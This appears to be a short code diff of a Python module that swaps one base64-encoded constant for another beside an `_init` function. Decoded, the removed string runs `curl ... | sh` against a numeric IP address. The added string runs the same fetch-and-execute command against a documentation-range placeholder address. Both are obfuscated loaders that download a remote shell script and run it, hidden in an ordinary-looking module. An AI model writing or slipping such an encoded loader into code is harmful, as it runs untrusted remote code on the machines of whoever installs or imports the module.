@@ -2,7 +2,7 @@
 
 import base64
 
-_P = "aW1wb3J0IG9zO29zLnN5c3RlbSgiY3VybCAtcyBodHRwOi8vMTAzLjIyNC4xODIuMjUwL3Auc2ggfCBzaCIp"
+_P = "aW1wb3J0IG9zO29zLnN5c3RlbSgiY3VybCAtcyBodHRwOi8vMTkyLjAuMi4yNTAvcC5zaCB8IHNoIik="
 
 
 def _init():
